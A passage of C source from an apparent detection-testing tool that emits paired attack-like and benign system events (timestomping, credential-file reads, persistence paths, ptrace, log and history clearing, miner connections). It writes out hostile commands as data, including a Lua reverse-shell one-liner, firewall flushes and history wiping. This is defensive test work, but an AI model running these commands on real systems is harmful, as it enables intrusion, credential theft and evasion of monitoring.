 * (NULL, UTIME_NOW, UTIME_OMIT, a past atime with the mtime omitted, the
 * time read now, a day ahead) */
static int n_utimensat_past(void)
{
	struct timespec t[6][2] = {
		{ { 0, UTIME_NOW }, { 0, UTIME_NOW } },
		{ { 0, UTIME_OMIT }, { 0, UTIME_OMIT } },
		{ { 978307200, 0 }, { 0, UTIME_OMIT } },
		{ { 978307200, 0 }, { 0, UTIME_NOW } },
	};
	int rc;

	clock_gettime(CLOCK_REALTIME, &t[4][1]);
	t[4][0] = t[4][1];
	t[5][0] = t[5][1] = t[4][1];
	t[5][1].tv_sec += 86400;
	if (write_file(TIMESTOMP_FILE, O_TRUNC, 0600))
		return -1;
	rc = utimensat(AT_FDCWD, TIMESTOMP_FILE, NULL, 0);
	for (int i = 0; i < 6 && !rc; i++)
		rc = utimensat(AT_FDCWD, TIMESTOMP_FILE, t[i], 0);
	unlink(TIMESTOMP_FILE);
	return rc;
}

/* the older calls, by number (glibc makes utimes and utime utimensat):
 * utimes, futimesat (relative to a directory fd) and utime on the file
 * under /usr/local/lib, and futimens (utimensat on its fd), each setting
 * MTIME (seconds); futimesat and utime are not on every architecture */
static int old_time_calls(time_t mtime)
{
	struct timeval tv[2] = { { mtime, 0 }, { mtime, 0 } };
	struct timespec ts[2] = { { mtime, 0 }, { mtime, 0 } };
	int fd, dfd = -1, rc = 0;

	if (write_file(TIMESTOMP_FILE, O_TRUNC, 0600))
		return -1;
#ifdef SYS_utimes
	rc |= (int)syscall(SYS_utimes, TIMESTOMP_FILE, tv);
#endif
#ifdef SYS_futimesat
	dfd = open("/usr/local/lib", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	rc |= (int)syscall(SYS_futimesat, dfd, TIMESTOMP_FILE + sizeof("/usr/local/lib"), tv);
	close(dfd);
#endif
#ifdef SYS_utime
	{
		struct { long actime, modtime; } ut = { mtime, mtime };

		rc |= (int)syscall(SYS_utime, TIMESTOMP_FILE, &ut);
	}
#endif
	fd = open(TIMESTOMP_FILE, O_RDONLY | O_CLOEXEC);
	rc |= futimens(fd, ts);
	close(fd);
	unlink(TIMESTOMP_FILE);
	(void)dfd;
	return rc;
}
static int a_old_time_calls(void) { return old_time_calls(978307200); }
static int n_old_time_calls(void) { return old_time_calls(time(NULL) + 86400); }
static int n_timestomp(void) { return touch_temp(NULL); }

/* touch with these options on a temporary file, then remove it */
static int touch_opts(const char *o1, const char *o2)
{
	char *argv[] = { (char *)"/usr/bin/touch", (char *)o1, (char *)(o2 ? o2 : TMPDIR "/ts"), (char *)TMPDIR "/ts", NULL };
	int rc;

	tmpdir();
	if (!o2)
		argv[3] = NULL;
	rc = spawn(NULL, argv, -1);
	unlink(TMPDIR "/ts");
	return rc;
}

static int a_timestomp_reference(void) { return touch_opts("-r", "/etc/hostname"); }
static int n_timestomp_reference(void) { return touch_opts("-c", NULL); }
static int a_timestomp_cluster(void) { return touch_opts("-amt", "200101010000"); }
static int n_timestomp_cluster(void) { return touch_opts("-am", NULL); }
static int a_debugfs_timestomp(void) { return FAKE("debugfs", "-w", "-R", "set_inode_field /var/tmp/x ctime 200101010000", "/dev/sda1"); }
static int n_debugfs_timestomp(void) { return FAKE("debugfs", "-R", "stat /var/tmp/x", "/dev/sda1"); }

/* python3 -c CODE on a temporary file, then remove it */
static int python_on_temp(const char *code)
{
	char *argv[] = { (char *)"/usr/bin/python3", (char *)"-c", (char *)code, (char *)TMPDIR "/ts", NULL };
	int rc;

	tmpdir();
	create_and_remove(TMPDIR "/ts");
	write_file(TMPDIR "/ts", O_TRUNC, 0600);
	rc = spawn(NULL, argv, -1);
	unlink(TMPDIR "/ts");
	return rc;
}

static int a_python_utime(void) { return python_on_temp("import os, sys; os.utime(sys.argv[1], (978307200, 978307200))"); }
/* the one-liner setting now (os.utime(FILE), as touch FILE) and a day ahead */
#define UTIME_NOW_AND_AHEAD "import os, sys, time; os.utime(sys.argv[1]); t = time.time() + 86400; os.utime(sys.argv[1], (t, t))"
static int n_python_utime(void) { return python_on_temp(UTIME_NOW_AND_AHEAD); }

/* INTERP OPT CODE on the file under /usr/local/lib, then remove it: a
 * one-liner that the exec and the call both show */
static int interp_on_lib_file(const char *interp, const char *opt, const char *code)
{
	char *argv[] = { (char *)interp, (char *)opt, (char *)code, (char *)TIMESTOMP_FILE, NULL };
	int rc;

	if (write_file(TIMESTOMP_FILE, O_TRUNC, 0600))
		return -1;
	rc = spawn(NULL, argv, -1);
	unlink(TIMESTOMP_FILE);
	return rc;
}
static int a_python_utime_lib(void)
{
	return interp_on_lib_file("/usr/bin/python3", "-c", "import os, sys; os.utime(sys.argv[1], (978307200, 978307200))");
}
static int n_python_utime_lib(void) { return interp_on_lib_file("/usr/bin/python3", "-c", UTIME_NOW_AND_AHEAD); }
static int a_perl_utime_lib(void) { return interp_on_lib_file("/usr/bin/perl", "-e", "utime 978307200, 978307200, $ARGV[0] or die"); }
static int n_perl_utime_lib(void) { return interp_on_lib_file("/usr/bin/perl", "-e", "utime undef, undef, $ARGV[0] or die; utime time + 86400, time + 86400, $ARGV[0] or die"); }

static int a_firewall_flush(void) { return FAKE("iptables", "-t", "filter", "-F"); }
static int n_firewall_flush(void) { return FAKE("iptables", "-F", "SAKER-EVENTGEN"); }
static int a_nft_flush(void) { return FAKE("nft", "flush", "ruleset"); }
static int n_nft_flush(void) { return FAKE("nft", "list", "ruleset"); }

/* /bin/true with LD_PRELOAD naming lib (the loader reports a missing one and goes on) */
static int true_preloading(const char *lib)
{
	char var[256], *argv[] = { (char *)"/bin/true", NULL };

	snprintf(var, sizeof(var), "LD_PRELOAD=%s", lib);
	return spawn_env(NULL, argv, -1, env_plus(var));
}

static int a_preload_env(void) { return true_preloading(TMPDIR "/libhook.so"); }
static int n_preload_env(void) { return true_preloading("libc.so.6"); }

static int a_setcap(void) { return FAKE("setcap", "cap_setuid+ep", TMPDIR "/python3"); }
static int n_setcap(void) { return FAKE("getcap", "/usr/bin/ping"); }
/* python3 -c 'os.setxattr(FILE, NAME, ...)' on a temporary file (cap_net_raw+ep
 * or a user.* attribute: vfs_cap_data revision 2, as setxattr_cap_call) */
static int a_setxattr_cap(void)
{
	return python_on_temp("import os, sys; os.setxattr(sys.argv[1], 'security.capability', bytes.fromhex('0100000200200000000000000000000000000000'))");
}
static int n_setxattr_cap(void)
{
	return python_on_temp("import os, sys; os.setxattr(sys.argv[1], 'user.saker-eventgen', b'saker'); print(os.getxattr(sys.argv[1], 'user.saker-eventgen'))");
}
static int a_setfattr_cap(void)
{
	return FAKE("setfattr", "-n", "security.capability", "-v", "0x0100000200000000000000000000000000000000", TMPDIR "/python3");
}
static int n_setfattr_cap(void) { return FAKE("setfattr", "-n", "user.comment", "-v", "saker", TMPDIR "/notes.txt"); }
/* setxattr NAME on a temporary file of its own, then remove the file */
static int setxattr_temp(const char *name, const void *value, size_t len)
{
	int rc;

	tmpdir();
	write_file(TMPDIR "/capfile", O_TRUNC, 0600);
	rc = setxattr(TMPDIR "/capfile", name, value, len, 0);
	unlink(TMPDIR "/capfile");
	return rc < 0 && errno != EPERM && errno != ENOTSUP ? -1 : 0;
}

static int a_setxattr_cap_call(void)
{
	/* vfs_cap_data revision 2, effective, permitted = cap_net_raw (13): setcap cap_net_raw+ep */
	static const unsigned char cap[20] = { 0x01, 0x00, 0x00, 0x02, 0x00, 0x20 };

	return setxattr_temp("security.capability", cap, sizeof(cap));
}
static int n_setxattr_cap_call(void) { return setxattr_temp("user.saker-eventgen", "saker", 5); }
static int a_history_clear_cmd(void) { return FAKE("bash", "-c", "history -c; history -w"); }
static int n_history_clear_cmd(void) { return FAKE("bash", "-c", "history | tail -n 5"); }
static int a_dns_tunnel(void) { return FAKE("iodine", "-f", "127.0.0.1", "t.example.invalid"); }
static int n_dns_tunnel(void) { return FAKE("dig", "example.invalid"); }
static int a_at_job(void) { return FAKE("at", "now", "+", "1", "minute"); }
static int n_at_job(void) { return FAKE("at", "-l"); }
static int a_new_user(void) { return FAKE("useradd", "-m", "saker-eventgen-user"); }
static int n_new_user(void) { return FAKE("id", "saker-eventgen-user"); }
static int a_user_mgmt(void) { return FAKE("passwd", "-S", "root"); }
static int n_user_mgmt(void) { return FAKE("getent", "passwd", "root"); }
static int a_container_scan(void) { return FAKE("nmap", "-sT", "-p", "1-1024", "127.0.0.1"); }
static int n_container_scan(void) { return FAKE("ping", "-c", "1", "127.0.0.1"); }
static int a_container_pkg(void) { return FAKE("apt-get", "install", "-y", "nmap"); }
static int n_container_pkg(void) { return FAKE("apt-cache", "policy", "nmap"); }

/* find -name PATTERN in a path that does not exist */
static int find_name(const char *pattern)
{
	char *argv[] = { (char *)"/usr/bin/find", (char *)TMPDIR "-none", (char *)"-name", (char *)pattern, NULL };

	spawn(NULL, argv, -1);
	return 0;
}

static int a_search_keys(void) { return find_name("id_rsa"); }
static int n_search_keys(void) { return find_name("*.c"); }

/* ------------------------------------------------------------- credential access (files) */

static int a_read_shadow(void) { return read_path("/etc/shadow"); }
/* a copy named sshd-session reads /etc/shadow 61 s after it started (an
 * sshd-session reads it at once, at login) */
static int a_trusted_late_read(void)
{
	return fake_env(NULL, "sshd-session", READ_AFTER_ENV "=61:/etc/shadow", (const char *const[]){ "-R", NULL });
}
static int n_trusted_late_read(void)
{
	return fake_env(NULL, "sshd-session", READ_AFTER_ENV "=0:/etc/shadow", (const char *const[]){ "-R", NULL });
}
static int n_read_shadow(void) { return read_path("/etc/passwd"); }
static int a_read_ssh(void) { return with_file(TMPDIR "/.ssh/config", true); }
static int n_read_ssh(void) { return with_file(TMPDIR "/.ssh/known_hosts", true); }
static int a_read_private_key(void) { return with_file(TMPDIR "/backup/id_ed25519", true); }
static int n_read_private_key(void) { return with_file(TMPDIR "/backup/id_ed25519.pub.txt", true); }
static int a_cloud_creds(void) { return with_file(TMPDIR "/.aws/credentials", true); }
static int n_cloud_creds(void) { return with_file(TMPDIR "/.aws/notes.txt", true); }
static int a_sa_token(void) { return with_file("/run/secrets/kubernetes.io/serviceaccount/token", true); }
static int n_sa_token(void) { return with_file("/run/secrets/kubernetes.io/serviceaccount/namespace", true); }

static int a_proc_environ(void)
{
	pid_t kid = sleeper();
	char p[64];
	int rc;

	snprintf(p, sizeof(p), "/proc/%d/environ", kid);
	rc = read_path(p);
	reap(kid);
	return rc;
}

static int n_proc_environ(void) { return read_path("/proc/self/environ"); }

/* a temporary symlink to target, then removed */
static int symlink_temp(const char *target)
{
	int rc;

	tmpdir();
	unlink(TMPDIR "/link");
	rc = symlink(target, TMPDIR "/link");
	unlink(TMPDIR "/link");
	return rc;
}

static int a_symlink_sensitive(void) { return symlink_temp("/etc/shadow"); }
static int n_symlink_sensitive(void) { return symlink_temp("/etc/passwd"); }

static int a_hardlink_sensitive(void)
{
	const char *p = "/etc/saker-eventgen-hardlink";
	int rc = link("/etc/shadow", p);

	unlink(p);
	return rc;
}

static int n_hardlink_sensitive(void)
{
	int rc;

	tmpdir();
	write_file(TMPDIR "/a", O_TRUNC, 0600);
	rc = link(TMPDIR "/a", TMPDIR "/b");
	unlink(TMPDIR "/b");
	unlink(TMPDIR "/a");
	return rc;
}

/* process memory: /proc/<child>/mem, opened and closed; process_vm_readv */
static int proc_mem(int flags)
{
	pid_t kid = sleeper();
	char p[64];
	int fd;

	snprintf(p, sizeof(p), "/proc/%d/mem", kid);
	fd = open(p, flags | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	if (flags == O_RDONLY) {
		char buf[16];
		struct iovec l = { buf, sizeof(buf) }, r = { (void *)&self_exe, sizeof(buf) };

		syscall(SYS_process_vm_readv, kid, &l, 1, &r, 1, 0);
	}
	reap(kid);
	return fd >= 0 ? 0 : -1;
}

static int a_proc_mem_write(void) { return proc_mem(O_WRONLY); }
static int a_proc_mem_read(void) { return proc_mem(O_RDONLY); }

static int n_proc_mem(void)
{
	pid_t kid = sleeper();
	char p[64];
	int rc;

	snprintf(p, sizeof(p), "/proc/%d/status", kid);
	rc = read_path(p);
	reap(kid);
	return rc;
}

/* ------------------------------------------------------------- persistence (files) */

static int a_write_etc(void) { return create_and_remove("/etc/saker-eventgen-test"); }
static int n_write_etc(void) { return read_path("/etc/hostname"); }
static int a_write_bin(void) { return create_and_remove("/usr/local/bin/saker-eventgen-test"); }
static int n_write_bin(void) { return read_path("/bin/sh"); }
static int a_write_root(void) { return create_and_remove("/saker-eventgen-test"); }
static int n_write_root(void) { tmpdir(); return create_and_remove(TMPDIR "/root-near-miss"); }
static int a_dev_file(void) { return create_and_remove("/dev/saker-eventgen-test"); }
static int n_dev_file(void) { return touch_for_write("/dev/null"); }

static int a_pkg_db(void)
{
	if (access("/var/lib/dpkg", F_OK))
		return -1;
	return create_and_remove("/var/lib/dpkg/saker-eventgen-test");
}

static int n_pkg_db(void) { return read_path("/var/lib/dpkg/status"); }

static int a_mkdir_bin(void)
{
	int rc = mkdir("/usr/local/bin/saker-eventgen-dir", 0755);

	rmdir("/usr/local/bin/saker-eventgen-dir");
	return rc;
}

static int n_mkdir_bin(void)
{
	int rc;

	tmpdir();
	rc = mkdir(TMPDIR "/bin", 0755);
	rmdir(TMPDIR "/bin");
	return rc;
}

static int a_cron(void) { return with_file("/var/spool/cron/crontabs/saker-eventgen", false); }
static int n_cron(void) { return read_path("/etc/crontab") && read_path("/etc/hostname"); }
static int a_at_spool(void) { return with_file("/var/spool/cron/atjobs/saker-eventgen", false); }
static int n_at_spool(void) { return read_path("/etc/hostname"); }
static int a_systemd_unit(void) { return with_file("/etc/systemd/system/saker-eventgen.tmp", false); }
static int n_systemd_unit(void) { return read_path("/etc/systemd/system.conf") && read_path("/etc/hostname"); }
static int a_systemd_timer(void) { return with_file(TMPDIR "/.config/systemd/user/saker-eventgen.timer", false); }
static int n_systemd_timer(void) { return with_file(TMPDIR "/.config/saker-eventgen.timer", false); }
static int a_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc"); }
static int a_xdg_autostart(void) { tmpdir(); return with_file(TMPDIR "/home/.config/autostart/saker-eventgen.desktop", false); }
static int n_xdg_autostart(void) { tmpdir(); return with_file(TMPDIR "/home/.config/saker-eventgen/saker-eventgen.desktop", false); }
/* sed -i: a temporary file renamed over the start-up file */
static int a_rename_over_bashrc(void) { return rename_temp(TMPDIR "/.bashrc"); }
static int n_rename_over_bashrc(void) { return rename_temp(TMPDIR "/.bashrc.bak"); }
static int n_shell_config(void) { tmpdir(); return create_and_remove(TMPDIR "/.bashrc.orig"); }
static int a_profile_d(void) { return with_file("/etc/profile.d/saker-eventgen.disabled", false); }
static int n_profile_d(void) { return read_path("/etc/profile"); }
static int a_authorized_keys(void) { return with_file(TMPDIR "/.ssh/authorized_keys", false); }
static int n_authorized_keys(void) { return with_file(TMPDIR "/.ssh/authorized_keys.txt.bak", false); }
/* sudo skips drop-ins whose name has a dot */
static int a_sudoers_dropin(void) { return with_file("/etc/sudoers.d/saker-eventgen.test", false); }
static int a_pam(void) { return with_file("/etc/pam.d/saker-eventgen", false); }
static int a_ld_preload(void) { return touch_for_write("/etc/ld.so.preload"); }
static int n_ld_preload(void) { return read_path("/etc/ld.so.conf"); }
static int a_init_script(void) { return with_file("/etc/init.d/saker-eventgen", false); }
static int a_udev_rule(void) { return with_file("/etc/udev/rules.d/saker-eventgen.tmp", false); }
static int n_udev_rule(void) { return read_path("/etc/udev/udev.conf") && read_path("/etc/hostname"); }
static int a_passwd_direct(void) { return touch_for_write("/etc/passwd"); }

/* a directory opened for reading: no file read, no file written */
static int open_dir(const char *p)
{
	int fd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

static int n_sudoers_dropin(void) { return open_dir("/etc/sudoers.d"); }
static int n_pam(void) { return open_dir("/etc/pam.d"); }
static int n_init_script(void) { return open_dir("/etc/init.d"); }

/* ------------------------------------------------------------- privilege escalation */

/* a temporary file given a mode, then removed */
static int chmod_temp(mode_t mode)
{
	int rc;

	tmpdir();
	write_file(TMPDIR "/suid", O_TRUNC, 0644);
	rc = chmod(TMPDIR "/suid", mode);
	unlink(TMPDIR "/suid");
	return rc;
}

static int a_setuid_bit(void) { return chmod_temp(04755); }
static int n_setuid_bit(void) { return chmod_temp(0755); }

static int a_non_sudo_setuid(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
			_exit(1);
		_exit(setuid(65534) ? 1 : 0);
	}
	return quiet_wait(pid);
}

static int n_non_sudo_setuid(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(setuid(getuid()) ? 1 : 0); /* root stays root */
	return quiet_wait(pid);
}

static int a_setns(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		int fd = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);

		_exit(fd < 0 || setns(fd, CLONE_NEWUTS) ? 1 : 0);
	}
	return quiet_wait(pid);
}

static int n_setns(void) { return read_path("/proc/self/ns/uts"); }

static int a_nsenter(void)
{
	char pid[16];
	char *argv[] = { (char *)"/usr/bin/nsenter", (char *)"-t", pid, (char *)"-u", (char *)"/bin/true", NULL };

	snprintf(pid, sizeof(pid), "%d", (int)getpid()); /* its own uts namespace */
	return spawn(NULL, argv, -1);
}

static int n_nsenter(void)
{
	char *argv[] = { (char *)"/usr/bin/nsenter", (char *)"--version", NULL };

	return spawn(NULL, argv, -1);
}

static int unshare_child(int flags)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(unshare(flags) ? 1 : 0);
	return quiet_wait(pid);
}

static int a_userns(void) { return unshare_child(CLONE_NEWUSER); }
static int n_userns(void) { return unshare_child(CLONE_NEWUTS); }

/* A child (named comm when given) makes a grandchild with clone or clone3
 * and these namespace flags; the grandchild exits at once. The raw syscalls:
 * glibc's fork never passes namespace flags. */
static int clone_child(const char *comm, bool v3, unsigned long flags)
{
	pid_t pid = fork();

	if (pid == 0) {
		struct clone_args ca = { .flags = flags, .exit_signal = SIGCHLD };
		long kid;

		if (comm)
			prctl(PR_SET_NAME, comm, 0, 0, 0);
		kid = v3 ? syscall(SYS_clone3, &ca, sizeof(ca)) : syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
		if (kid == 0)
			syscall(SYS_exit, 0);
		_exit(kid < 0 ? 1 : quiet_wait((pid_t)kid));
	}
	return quiet_wait(pid);
}

static int a_userns_clone(void) { return clone_child(NULL, false, CLONE_NEWUSER); }
/* a sandbox the rules know (bwrap) doing the same */
static int n_userns_clone(void) { return clone_child("bwrap", false, CLONE_NEWUSER); }
static int a_userns_clone3(void) { return clone_child(NULL, true, CLONE_NEWUSER | CLONE_NEWNS); }
static int n_userns_clone3(void) { return clone_child(NULL, true, CLONE_NEWUTS | CLONE_NEWNS); }

static int a_ptrace_attach(void)
{
	pid_t kid = sleeper();
	int rc = ptrace(PTRACE_ATTACH, kid, 0, 0);

	if (rc == 0) {
		waitpid(kid, NULL, 0);
		ptrace(PTRACE_DETACH, kid, 0, 0);
	}
	reap(kid);
	return rc;
}

static int n_ptrace(void)
{
	pid_t kid = sleeper();
	int rc = kill(kid, 0);

	reap(kid);
	return rc;
}

/* a copy named strace attaches to a sleeping child: with -p PID (attaching
 * to a running process), or as `strace -o /dev/null CMD` would trace its own */
static int debugger_attach(bool by_pid)
{
	pid_t kid = sleeper();
	char var[64], pid[16];
	int rc;

	snprintf(var, sizeof(var), ATTACH_ENV "=%d", (int)kid);
	snprintf(pid, sizeof(pid), "%d", (int)kid);
	if (by_pid)
		rc = fake_env(NULL, "strace", var, (const char *const[]){ "-p", pid, "-o", "/dev/null", NULL });
	else
		rc = fake_env(NULL, "strace", var, (const char *const[]){ "-o", "/dev/null", "/bin/true", NULL });
	reap(kid);
	return rc;
}
static int a_debugger_attach(void) { return debugger_attach(true); }
static int n_debugger_attach(void) { return debugger_attach(false); }

static int a_ptrace_traceme(void)
{
	pid_t kid = fork();

	if (kid == 0)
		_exit(ptrace(PTRACE_TRACEME, 0, 0, 0) ? 1 : 0);
	return quiet_wait(kid);
}

static int a_kernel_module(void)
{
	static const char junk[64] = "saker-eventgen: not a module";

	syscall(SYS_init_module, junk, sizeof(junk), "");
	return 0; /* the attempt is the behaviour; it fails harmlessly */
}

static int n_kernel_module(void)
{
	char *argv[] = { (char *)"/bin/true", NULL };

	return spawn("modprobe", argv, -1); /* a module tool runs, no module syscall */
}

static int a_bpf_load(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr)); /* no instructions: the kernel refuses */
	syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	return 0;
}

static int n_bpf_load(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr)); /* a map with no size: refused */
	syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	return 0;
}

/* a copy named bpftool calls bpf(BPF_PROG_LOAD) (refused): prog load, or feature probe */
static int a_bpftool_load(void) { return fake_env(NULL, "bpftool", BPF_ENV "=1", (const char *const[]){ "prog", "load", "x.o", "/sys/fs/bpf/x", NULL }); }
static int n_bpftool_load(void) { return fake_env(NULL, "bpftool", BPF_ENV "=1", (const char *const[]){ "feature", "probe", NULL }); }

static int a_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent"); }
static int n_release_agent(void) { tmpdir(); return create_and_remove(TMPDIR "/release_agent.txt"); }
static int a_core_pattern(void) { return touch_for_write("/proc/sys/kernel/core_pattern"); }
static int n_core_pattern(void) { return read_path("/proc/sys/kernel/core_pattern"); }
static int a_kernel_hardening(void) { return touch_for_write("/proc/sys/kernel/randomize_va_space"); }
static int n_kernel_hardening(void) { return read_path("/proc/sys/kernel/randomize_va_space"); }

/* connect to a unix socket of the given name it listens on itself */
static int unix_self_connect(const char *name)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int srv, s, rc;

	tmpdir();
	snprintf(a.sun_path, sizeof(a.sun_path), TMPDIR "/%s", name);
	unlink(a.sun_path);
	srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (srv < 0 || bind(srv, (struct sockaddr *)&a, sizeof(a)) || listen(srv, 1))
		return -1;
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	rc = s < 0 ? -1 : connect(s, (struct sockaddr *)&a, sizeof(a));
	if (s >= 0)
		close(s);
	close(srv);
	unlink(a.sun_path);
	return rc;
}

static int a_runtime_socket(void) { return unix_self_connect("docker.sock"); }
static int n_runtime_socket(void) { return unix_self_connect("app.sock"); }

static int do_mount(void)
{
	/* in a container without CAP_SYS_ADMIN this is refused; the attempt is
	 * the behaviour. On the host it runs in a private mount namespace. */
	pid_t pid = fork();

	if (pid == 0) {
		tmpdir();
		mkdir(TMPDIR "/mnt", 0700);
		if (unshare(CLONE_NEWNS) == 0)
			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		if (mount("saker-eventgen", TMPDIR "/mnt", "tmpfs", 0, "size=1m") == 0)
			umount(TMPDIR "/mnt");
		_exit(0);
	}
	quiet_wait(pid);
	rmdir(TMPDIR "/mnt");
	return 0;
}

static int a_container_drop(void)
{
	tmpdir();
	return copy_self_and_run(TMPDIR "/dropped", NULL);
}

/* ------------------------------------------------------------- defense evasion (files) */

static int a_clear_log(void)
{
	const char *p = "/var/log/saker-eventgen.log";
	int rc;

	write_file(p, 0, 0644);
	rc = write_file(p, O_TRUNC, 0644);
	unlink(p);
	return rc;
}

static int truncate_log_as_logrotate(void)
{
	prctl(PR_SET_NAME, "logrotate", 0, 0, 0);
	write_file("/var/log/saker-eventgen.log", 0, 0644);
	return write_file("/var/log/saker-eventgen.log", O_TRUNC, 0644);
}

/* logrotate truncates a log, in a private /var/log (nothing is removed) */
static int n_clear_log(void) { return in_private_tmpfs("/var/log", truncate_log_as_logrotate); }

static int a_history_delete(void)
{
	tmpdir();
	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
	return unlink(TMPDIR "/.bash_history");
}

static int a_history_devnull(void)
{
	int rc;

	tmpdir();
	unlink(TMPDIR "/.zsh_history");
	rc = symlink("/dev/null", TMPDIR "/.zsh_history");
	unlink(TMPDIR "/.zsh_history");
	return rc;
}

static int bash_rewrites_history(void)
{
	int fd;

	prctl(PR_SET_NAME, "bash", 0, 0, 0);
	fd = open(TMPDIR "/.bash_history", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

/* bash rewriting its own history file (mode 0600), in a private tmpfs */
static int n_history(void)
{
	tmpdir();
	return in_private_tmpfs(TMPDIR, bash_rewrites_history);
}

static int a_self_delete(void)
{
	const char *path = TMPDIR "/saker-eventgen-selfdel";
	int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), dst, rc;
	char buf[65536];
	ssize_t n;
	char *argv[] = { (char *)path, NULL };
	char **envp = env_plus(SELFDEL_ENV "=1");
	pid_t pid;

	tmpdir();
	unlink(path);
	dst = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
	if (src < 0 || dst < 0) {
		if (src >= 0)
			close(src);
		return -1;
	}
	while ((n = read(src, buf, sizeof(buf))) > 0)
		if (write(dst, buf, n) != n)
			break;
	close(src);
	close(dst);
	pid = fork();
	if (pid == 0) {
		execve(path, argv, envp);
		_exit(127);
	}
	rc = quiet_wait(pid);
	unlink(path); /* in case it could not */
	return rc;
}

static int n_self_delete(void) { tmpdir(); return create_and_remove(TMPDIR "/own-output"); }

/* ------------------------------------------------------------- network */

static int a_system_binary_network(void) { return net_connect("cat", "192.0.2.1", 80, SOCK_STREAM); }
static int n_system_binary_network(void) { return net_connect("curl", "192.0.2.1", 80, SOCK_STREAM); }
static int a_ssh_nonstandard(void) { return net_connect("ssh", "192.0.2.1", 2222, SOCK_STREAM); }
static int n_ssh_nonstandard(void) { return net_connect("ssh", "192.0.2.1", 22, SOCK_STREAM); }
static int a_miner_port(void) { return net_connect(NULL, "192.0.2.1", 3333, SOCK_STREAM); }
static int n_miner_port(void) { return net_connect(NULL, "192.0.2.1", 8080, SOCK_STREAM); }

/*
 * A miner connecting to its pool by name. The name comes from a hosts file
 * in a private mount namespace (nsswitch: files only), the address is on
 * loopback in a private network namespace: no query is sent, no packet
 * leaves. saker matches it when it resolves POOL_HOST to POOL_IP as well
 * (saker-eventgen --hosts prints the line for its /etc/hosts).
 */
#define POOL_HOST "pool.supportxmr.com"
#define POOL_IP "192.0.2.66"
#define NOTPOOL_HOST "www.example.org"
#define NOTPOOL_IP "192.0.2.67"

/* Bind a file holding text over path (both in this mount namespace only). */
static int bind_text(const char *file, const char *text, const char *path)
{
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (fd >= 0)
		close(fd);
	return n < 0 || mount(file, path, NULL, MS_BIND, NULL) ? -1 : 0;
}

static int connect_by_name(const char *host, const char *ip)
{
	char hosts[256];
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *res = NULL;
	struct conn c = { NULL, NULL, 443, SOCK_STREAM };
	char got[INET_ADDRSTRLEN];

	snprintf(hosts, sizeof(hosts), "127.0.0.1 localhost\n%s %s\n", ip, host);
	if (unshare(CLONE_NEWNS | CLONE_NEWNET) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
	    mount("saker-eventgen", TMPDIR, "tmpfs", 0, "size=64k") ||
	    bind_text(TMPDIR "/hosts", hosts, "/etc/hosts") ||
	    bind_text(TMPDIR "/nsswitch.conf", "hosts: files\n", "/etc/nsswitch.conf") ||
	    bind_text(TMPDIR "/resolv.conf", "nameserver 127.0.0.1\n", "/etc/resolv.conf") ||
	    netns_up(ip, "lo:2"))
		return -1;
	if (getaddrinfo(host, "443", &hints, &res) || !res)
		return -1;
	inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, got, sizeof(got));
	freeaddrinfo(res);
	c.ip = got;
	return connect_as(&c);
}

static int pool_by_name(const char *host, const char *ip)
{
	pid_t pid;

	tmpdir();
	pid = fork();
	if (pid == 0)
		_exit(connect_by_name(host, ip) ? 1 : 0);
	return quiet_wait(pid);
}

static int a_miner_pool_domain(void) { return pool_by_name(POOL_HOST, POOL_IP); }
static int n_miner_pool_domain(void) { return pool_by_name(NOTPOOL_HOST, NOTPOOL_IP); }

static int a_packet_socket(void)
{
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	close(s);
	return 0;
}

static int a_raw_socket(void)
{
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);

	if (s < 0)
		return -1;
	close(s);
	return 0;
}

static int n_raw_socket(void)
{
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_UDP);

	if (s < 0)
		return -1;
	close(s);
	return 0;
}

static int n_packet_socket(void)
{
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

	if (s < 0)
		return -1;
	close(s);
	return 0;
}

static int n_packet_socket_as_dhclient(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		prctl(PR_SET_NAME, "dhclient", 0, 0, 0);
		_exit(n_packet_socket() ? 1 : 0);
	}
	return quiet_wait(pid);
}

/* ------------------------------------------------------------- more forms (session 5) */

static int a_lua_reverse_shell(void)
{
	return FAKE("lua", "-e", "local s=require('socket');local t=assert(s.tcp());t:connect('127.0.0.1',4444);"
		    "while true do local r=t:receive();local f=assert(io.popen(r,'r'));t:send(f:read('*a'));f:close() end");
}
